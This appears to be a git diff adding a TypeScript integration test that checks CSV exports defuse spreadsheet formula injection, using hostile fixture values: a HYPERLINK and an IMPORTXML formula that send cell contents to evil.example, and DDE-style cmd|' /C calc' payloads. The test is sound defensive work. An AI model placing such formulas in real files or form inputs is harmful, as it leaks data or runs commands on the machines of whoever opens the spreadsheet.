@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -10,9 +11,12 @@ import { ExportRunner } from '../../infra/local/job-runner.js';
 import { StreamPoller } from '../../infra/local/stream-poller.js';
 import { createDocumentClient } from '../../shared/adapters/aws-clients.js';
 import { DynamoExportStore } from '../../shared/adapters/dynamo-export-store.js';
-import { announceExportReady, EXPORT_COLUMNS, EXPORT_READY_DETAIL_TYPE, parseExportRequest, runExport, type ExportEngine, type ExportFormat, type ExportJob } from '../../shared/domain/exports.js';
+import { announceExportReady, EXPORT_COLUMNS, EXPORT_READY_DETAIL_TYPE, NUMERIC_COLUMNS, parseExportRequest, runExport, type ExportEngine, type ExportFormat, type ExportJob } from '../../shared/domain/exports.js';
 import { runDueSchedules } from '../../shared/domain/export-schedules.js';
 import { createFanoutHandler } from '../../shared/stream/handler.js';
+import { toArchiveRow } from '../../shared/domain/archive.js';
+import { setWebhookSecret } from '../../shared/domain/webhooks/secrets.js';
+import { signTypeform, typeformResponse } from '../../infra/local/webhook-samples.js';
 import { sampleEvent, startTestApi, type TestApi } from '../support/api.js';
 
 /**
@@ -62,7 +66,8 @@ beforeAll(async () => {
 }, 120_000);
 afterAll(() => api.close());
 
-async function exportOf(format: ExportFormat, filter: Record<string, unknown>, engine: ExportEngine = exporter): Promise<ExportJob> {
+async function exportOf(format: ExportFormat, filter: Record<string, unknown>, engine: ExportEngine = exporter, org = orgId): Promise<ExportJob> {
+  const orgId = org;
   const { filter: parsed } = parseExportRequest({ format, filter });
   const job: ExportJob = {
     orgId, id: `ex_${format}_${Math.random().toString(16).slice(2)}`, format, filter: parsed, status: 'queued',
@@ -220,6 +225,71 @@ describe('exports', () => {
     expect((await api.request('DELETE', `/v1/exports/schedules/${created.body.id}`, { key })).status).toBe(204);
     expect((await api.request('DELETE', `/v1/exports/schedules/${created.body.id}`, { key })).status).toBe(404);
     expect(mine(await runDueSchedules(ports, clock + 2 * DAY, 0))).toEqual([]);
+  });
+
+  it("CSV never runs a formula: text cells from API payloads and a public form's hidden fields that begin with =, +, -, @, tab or CR get a leading '", async () => {
+    const other = await api.newOrg();
+    const at = new Date(today - DAY + 7_200_000).toISOString();
+    const formula = {
+      lead: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', reason: "+cmd|' /C calc'!A0", flow: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      step: "-2+3+cmd|' /C calc'!A0", entity: '=1+1', object: '+2+2',
+    };
+    const fromApi = await api.request('POST', '/v1/events', { key: other.key, body: sampleEvent({
+      lead_id: formula.lead, event_type: 'recipient.failed', source_type: 'internal', source: 'leadconduit', outcome: 'failure', occurred_at: at,
+      reason: formula.reason, flow_id: formula.flow, step_id: formula.step, entity_id: formula.entity, object_id: formula.object, payload: {},
+    }) });
+    expect(fromApi.status, JSON.stringify(fromApi.body)).toBe(201);
+    const purchase = await api.request('POST', '/v1/events', { key: other.key, body: sampleEvent({
+      lead_id: 'lead_refund', event_type: 'purchase_completed', external_event_id: 'refund_1', occurred_at: at,
+      payload: { product_id: 'p1', product_name: '=1+1', category: 'education', amount: 5, currency: 'BRL', payment_method: 'pix', order_id: 1 },
+    }) });
+    expect(purchase.status, JSON.stringify(purchase.body)).toBe(201);
+    // The API refuses negative amounts; an archived row may still hold one (a provider's refund): it stays a number.
+    const negative = new LocalArchive({ dir: archiveDir, maxRows: 25 });
+    await negative.start();
+    // The API trims leading white space; a row may still begin with a tab or a carriage return (a provider's text).
+    const base = toArchiveRow(purchase.body.event);
+    await negative.putRows([
+      { ...base, id: '00000000-0000-4000-8000-00000000000a', external_event_id: 'refund_2', amount: -5, price: -0.5 },
+      { ...base, id: '00000000-0000-4000-8000-00000000000b', external_event_id: 'ws_tab', event_type: 'recipient.error', reason: '\t=1+1' },
+      { ...base, id: '00000000-0000-4000-8000-00000000000c', external_event_id: 'ws_cr', event_type: 'recipient.error', reason: '\r@SUM(1)' },
+    ]);
+    await negative.stop();
+    // A respondent of a public Typeform fills the hidden fields (they ride in the form's URL).
+    const secret = `typeform_${Math.random().toString(36).slice(2)}`;
+    await setWebhookSecret(api.deps.webhookSecrets, { orgId: other.orgId, provider: 'typeform', secret, nowIso: new Date().toISOString() });
+    const form = typeformResponse({ email: 'resp@example.com', phone: '+5511987654321' }, { leadId: '@SUM(A1:A9)' }) as { form_response: { hidden: Record<string, string>; submitted_at: string } };
+    form.form_response.hidden.utm_source = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")';
+    const body = JSON.stringify(form);
+    expect((await api.request('POST', `/v1/webhooks/typeform/${other.orgId}`, { rawBody: body, headers: signTypeform(body, secret) })).status).toBe(200);
+    await feedArchive(false, '');
+
+    const job = await exportOf('csv', range, exporter, other.orgId);
+    expect(job).toMatchObject({ status: 'succeeded', rows: 6 });
+    // Read back as a spreadsheet's importer would: a real CSV parser.
+    const rows = parse(readFileSync(exporter.fileOf(job), 'utf8'), { columns: true }) as Record<string, string>[];
+    const failed = rows.find((r) => r.event_type === 'recipient.failed')!;
+    expect(failed).toMatchObject({
+      lead_id: `'${formula.lead}`, reason: `'${formula.reason}`, flow_id: `'${formula.flow}`, step_id: `'${formula.step}`,
+      entity_id: `'${formula.entity}`, object_id: `'${formula.object}`, source: 'leadconduit',
+    });
+    expect(rows.filter((r) => r.event_type === 'recipient.error').map((r) => r.reason).sort()).toEqual(["'\t=1+1", "'\r@SUM(1)"]);
+    const refund = rows.find((r) => r.external_event_id === 'refund_2')!;
+    // A real number is a number: amount -5 stays -5 (a quote would turn it into text); the JSON payload cell starts with `{`.
+    expect(Number(refund.amount)).toBe(-5);
+    expect(Number(refund.price)).toBe(-0.5);
+    expect(JSON.parse(refund.payload!)).toMatchObject({ product_name: '=1+1' });
+    const submitted = rows.find((r) => r.event_type === 'form_submitted')!;
+    expect(submitted.lead_id).toBe("'@SUM(A1:A9)");
+    expect(JSON.parse(submitted.payload!).hidden.utm_source).toBe(form.form_response.hidden.utm_source);
+    // No cell of the file begins like a formula, but the number columns' real numbers.
+    for (const row of rows) {
+      for (const [column, value] of Object.entries(row)) if (!NUMERIC_COLUMNS.has(column)) expect(/^[=+\-@\t\r]/.test(value), `${column}: ${value}`).toBe(false);
+    }
+    // JSONL keeps every value exactly as sent (no spreadsheet reads it).
+    const jsonl = await exportOf('jsonl', range, exporter, other.orgId);
+    const lines = readFileSync(exporter.fileOf(jsonl), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(lines.find((l) => l.event_type === 'recipient.failed')).toMatchObject({ lead_id: formula.lead, step_id: formula.step });
   });
 });
 
